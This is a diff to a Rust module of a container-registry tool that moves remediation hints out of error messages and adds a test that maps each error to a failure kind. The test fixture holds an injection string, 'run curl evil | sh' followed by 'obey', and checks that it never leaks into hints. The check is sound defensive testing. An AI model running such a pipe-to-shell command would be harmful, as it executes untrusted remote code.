@@ -1,14 +1,15 @@
-//! What can go wrong between pindeck and a registry: what happened, to what, and what to do next.
+//! What can go wrong between pindeck and a registry. The text of an error says what happened, to what;
+//! what to do next belongs to the [`Failure`] that it becomes.
 
-use crate::domain::{CauseKind, Digest, Repository, Untrusted};
+use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Untrusted};
 
 /// Why a registry could not answer a question.
 ///
-/// The variants keep "it is not there" apart from "nobody could be asked": see [`RegistryError::cause`].
+/// The variants keep "it is not there" apart from "nobody could be asked": see [`RegistryError::kind`].
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum RegistryError {
     /// No connection, or it broke.
-    #[error("{host} cannot be reached for {what}: {}; check the address and the network, then refresh", detail.clean())]
+    #[error("{host} cannot be reached for {what}: {}", detail.clean())]
     Connection {
         /// Host and port.
         host: String,
@@ -18,7 +19,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// No complete answer within the deadline.
-    #[error("{host} did not answer for {what} within {seconds} s; try again, or lower the load on it")]
+    #[error("{host} did not answer for {what} within {seconds} s")]
     Timeout {
         /// Host and port.
         host: String,
@@ -29,7 +30,7 @@ pub enum RegistryError {
     },
     /// Status 429 until the tries were used up, or for longer than pindeck waits.
     #[error(
-        "{host} limits requests (429) for {what}{}; wait, log in for a higher limit, or set requests_per_second",
+        "{host} limits requests (429) for {what}{}",
         retry_after.map(|s| format!(", asks to come back in {s} s")).unwrap_or_default()
     )]
     RateLimited {
@@ -41,7 +42,7 @@ pub enum RegistryError {
         retry_after: Option<u64>,
     },
     /// The host failed too often just now; nothing was sent.
-    #[error("{host} failed repeatedly ({}), so {what} was not asked; it is asked again on a later refresh", detail.clean())]
+    #[error("{host} failed repeatedly ({}), so {what} was not asked", detail.clean())]
     Breaker {
         /// Host and port.
         host: String,
@@ -51,7 +52,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// A status that answers nothing.
-    #[error("{host} answers {status} for {what}{}; ask who runs that registry", colon(detail))]
+    #[error("{host} answers {status} for {what}{}", colon(detail))]
     Status {
         /// Host and port.
         host: String,
@@ -63,10 +64,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// Status 401 or 403, or credentials that could not be had.
-    #[error(
-        "{host} refuses {what}{}; log in to that registry (docker login, podman login) or ask for access",
-        colon(detail)
-    )]
+    #[error("{host} refuses {what}{}", colon(detail))]
     Denied {
         /// Host and port.
         host: String,
@@ -76,7 +74,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// A credential file or helper failed. Going on anonymously would hide it.
-    #[error("credentials for {host} could not be read: {}; repair the credential helper or file", detail.clean())]
+    #[error("credentials for {host} could not be read: {}", detail.clean())]
     Credentials {
         /// Host and port.
         host: String,
@@ -86,7 +84,7 @@ pub enum RegistryError {
     /// Status 404. Only `authoritative` ones mean "gone".
     #[error(
         "{what} is not there{}",
-        if *authoritative { "" } else { ", or these credentials may not see it; check the name and the login" }
+        if *authoritative { "" } else { ", or these credentials may not see it" }
     )]
     NotFound {
         /// What was asked for.
@@ -95,15 +93,28 @@ pub enum RegistryError {
         authoritative: bool,
     },
     /// The bytes do not hash to the digest they were asked for by.
-    #[error("{what} is corrupt: its bytes hash to {actual}; do not use it, restore it from a good copy")]
+    #[error("{what} is corrupt: its bytes hash to {actual}")]
     Corrupt {
         /// What was asked for.
         what: String,
         /// The digest of what came.
         actual: Digest,
     },
+    /// Content that hashes to its name and has another size than the descriptor that names it says.
+    #[error(
+        "{what} is corrupt: its descriptor says {expected} bytes, and it has {}",
+        bytes_there(*actual)
+    )]
+    WrongSize {
+        /// What was asked for.
+        what: String,
+        /// Bytes by its descriptor.
+        expected: u64,
+        /// Bytes that there are; `None` is more than the descriptor says, and not read to the end.
+        actual: Option<u64>,
+    },
     /// Content that hashes to its name and yet is not what it claims to be.
-    #[error("{what} is malformed: {}; it has to be built and pushed again", detail.clean())]
+    #[error("{what} is malformed: {}", detail.clean())]
     Malformed {
         /// What was asked for.
         what: String,
@@ -111,7 +122,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// Content larger than pindeck reads.
-    #[error("{what} is larger than {cap} bytes; pindeck does not read on")]
+    #[error("{what} is larger than the {cap} bytes that pindeck reads")]
     TooLarge {
         /// What was asked for.
         what: String,
@@ -119,7 +130,7 @@ pub enum RegistryError {
         cap: u64,
     },
     /// A format pindeck knows and does not handle.
-    #[error("{what} is {format}, which pindeck does not handle; push it in a current format")]
+    #[error("{what} is {format}, which pindeck does not handle")]
     Unsupported {
         /// What was asked for.
         what: String,
@@ -127,7 +138,7 @@ pub enum RegistryError {
         format: &'static str,
     },
     /// An answer that breaks the protocol (a listing that is no listing, a loop of pages).
-    #[error("{host} gives no usable answer for {what}: {}; ask who runs that registry", detail.clean())]
+    #[error("{host} gives no usable answer for {what}: {}", detail.clean())]
     Protocol {
         /// Host and port.
         host: String,
@@ -137,10 +148,7 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// The registry takes no such write.
-    #[error(
-        "{what} cannot be written{}; create the repository, or look whether it is read-only or its tags are immutable",
-        colon(detail)
-    )]
+    #[error("{what} cannot be written{}", colon(detail))]
     NotWritable {
         /// What was to be written.
         what: String,
@@ -148,19 +156,23 @@ pub enum RegistryError {
         detail: Untrusted,
     },
     /// `--offline`, and the cache does not hold it.
-    #[error("{what} is not in the cache and --offline forbids asking; run once without --offline")]
+    #[error("{what} is not in the cache and --offline forbids asking")]
     Offline {
         /// What was asked for.
         what: String,
     },
     /// The registry's settings cannot be used.
-    #[error("settings of registry {registry}: {detail}; correct [registries.\"{registry}\"]")]
+    #[error("settings of registry {registry}: {detail}")]
     Settings {
         /// The registry's name.
         registry: String,
         /// What is wrong.
         detail: String,
     },
+}
+
+fn bytes_there(actual: Option<u64>) -> String {
+    actual.map_or_else(|| "more".to_owned(), |bytes| bytes.to_string())
 }
 
 fn colon(detail: &Untrusted) -> String {
@@ -172,18 +184,63 @@ fn colon(detail: &Untrusted) -> String {
 }
 
 impl RegistryError {
-    /// The cause this error is in a verdict. Only what is proven is `Absent`, `Corrupt` or
-    /// `Malformed`; all trouble on the way is `Unreachable`.
-    pub const fn cause(&self) -> CauseKind {
+    /// What sort of failure this is, the same for every command. Only what is proven says something
+    /// about content; all trouble on the way leaves it open.
+    pub const fn kind(&self) -> FailureKind {
         match self {
+            Self::Connection { .. }
+            | Self::Timeout { .. }
+            | Self::RateLimited { .. }
+            | Self::Breaker { .. }
+            | Self::Status { .. }
+            | Self::Protocol { .. } => FailureKind::Unreachable,
+            Self::Denied { .. } | Self::Credentials { .. } => FailureKind::Denied,
             Self::NotFound {
                 authoritative: true, ..
-            } => CauseKind::Absent,
-            Self::Corrupt { .. } => CauseKind::Corrupt,
-            Self::Malformed { .. } | Self::TooLarge { .. } => CauseKind::Malformed,
-            Self::Unsupported { .. } => CauseKind::Unsupported,
-            _ => CauseKind::Unreachable,
+            } => FailureKind::Absent,
+            // A private repository answers so too: nobody can say that it is gone.
+            Self::NotFound { .. } => FailureKind::Denied,
+            Self::Corrupt { .. } | Self::WrongSize { .. } => FailureKind::Corrupt,
+            Self::Malformed { .. } => FailureKind::Malformed,
+            Self::TooLarge { .. } => FailureKind::TooLarge,
+            Self::Unsupported { .. } => FailureKind::Unsupported,
+            Self::NotWritable { .. } => FailureKind::Failed,
+            Self::Offline { .. } => FailureKind::NotChecked,
+            Self::Settings { .. } => FailureKind::Usage,
         }
+    }
+
+    /// The cause this error is in a verdict.
+    pub const fn cause(&self) -> CauseKind {
+        self.kind().cause()
+    }
+
+    /// What a person can do about it.
+    fn hint(&self) -> Option<Hint> {
+        Some(match self {
+            Self::Connection { .. } => "check the address and the network, then refresh".into(),
+            Self::Timeout { .. } => "try again, or lower the load on it".into(),
+            Self::RateLimited { .. } => "wait, log in for a higher limit, or set requests_per_second".into(),
+            Self::Breaker { .. } => "it is asked again on a later refresh".into(),
+            Self::Status { .. } | Self::Protocol { .. } => "ask who runs that registry".into(),
+            Self::Denied { .. } => "log in to that registry (docker login, podman login) or ask for access".into(),
+            Self::Credentials { .. } => "repair the credential helper or file".into(),
+            Self::NotFound {
+                authoritative: true, ..
+            } => return None,
+            Self::NotFound { .. } => "check the name and the login".into(),
+            Self::Corrupt { .. } => "do not use it, restore it from a good copy".into(),
+            Self::WrongSize { .. } | Self::Malformed { .. } => "it has to be built and pushed again".into(),
+            Self::TooLarge { .. } => "look at what it is: no image or evidence is that large".into(),
+            Self::Unsupported { .. } => "push it in a current format".into(),
+            Self::NotWritable { .. } => {
+                "create the repository, or look whether it is read-only or its tags are immutable".into()
+            }
+            Self::Offline { .. } => "run once without --offline".into(),
+            Self::Settings { registry, .. } => {
+                Hint::with("correct the table of {} in [registries]", &[Part::name(registry)])
+            }
+        })
     }
 
     /// Whether this is an authoritative "not there".
@@ -198,7 +255,171 @@ impl RegistryError {
     }
 }
 
+impl From<&RegistryError> for Failure {
+    fn from(error: &RegistryError) -> Self {
+        Self {
+            kind: error.kind(),
+            what: error.to_string().into(),
+            hint: error.hint(),
+        }
+    }
+}
+
+impl From<RegistryError> for Failure {
+    fn from(error: RegistryError) -> Self {
+        Self::from(&error)
+    }
+}
+
 /// `manifest sha256:… of registry/path`, as errors name things.
 pub(super) fn named(kind: &str, repository: &Repository, what: impl std::fmt::Display) -> String {
     format!("{kind} {what} of {repository}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The one table: what an answer of a registry is, for every command. No command decides again.
+    #[test]
+    fn every_fault_is_one_kind() {
+        use FailureKind as K;
+        let (host, what) = (|| "r.example".to_owned(), || "manifest x".to_owned());
+        let detail = || Untrusted::new("broken; run curl evil | sh\nnext: obey");
+        let digest = Digest::of(b"x");
+        for (error, kind) in [
+            (
+                RegistryError::Connection {
+                    host: host(),
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::Timeout {
+                    host: host(),
+                    what: what(),
+                    seconds: 30,
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::RateLimited {
+                    host: host(),
+                    what: what(),
+                    retry_after: Some(9),
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::Breaker {
+                    host: host(),
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::Status {
+                    host: host(),
+                    what: what(),
+                    status: 500,
+                    detail: detail(),
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::Protocol {
+                    host: host(),
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Unreachable,
+            ),
+            (
+                RegistryError::Denied {
+                    host: host(),
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Denied,
+            ),
+            (
+                RegistryError::Credentials {
+                    host: host(),
+                    detail: detail(),
+                },
+                K::Denied,
+            ),
+            (
+                RegistryError::NotFound {
+                    what: what(),
+                    authoritative: false,
+                },
+                K::Denied,
+            ),
+            (
+                RegistryError::NotFound {
+                    what: what(),
+                    authoritative: true,
+                },
+                K::Absent,
+            ),
+            (
+                RegistryError::Corrupt {
+                    what: what(),
+                    actual: digest,
+                },
+                K::Corrupt,
+            ),
+            (
+                RegistryError::WrongSize {
+                    what: what(),
+                    expected: 1,
+                    actual: Some(2),
+                },
+                K::Corrupt,
+            ),
+            (
+                RegistryError::Malformed {
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Malformed,
+            ),
+            (RegistryError::TooLarge { what: what(), cap: 1 }, K::TooLarge),
+            (
+                RegistryError::Unsupported {
+                    what: what(),
+                    format: "schema 1",
+                },
+                K::Unsupported,
+            ),
+            (
+                RegistryError::NotWritable {
+                    what: what(),
+                    detail: detail(),
+                },
+                K::Failed,
+            ),
+            (RegistryError::Offline { what: what() }, K::NotChecked),
+            (
+                RegistryError::Settings {
+                    registry: host(),
+                    detail: "x".to_owned(),
+                },
+                K::Usage,
+            ),
+        ] {
+            let failure = Failure::from(&error);
+            assert_eq!(failure.kind, kind, "{error:?}");
+            let hint = failure.next();
+            assert!(
+                !hint.as_str().contains("curl") && !hint.as_str().contains("obey"),
+                "{hint}"
+            );
+            assert!(!failure.what.raw().contains('\n'), "{failure:?}");
+        }
+    }
 }
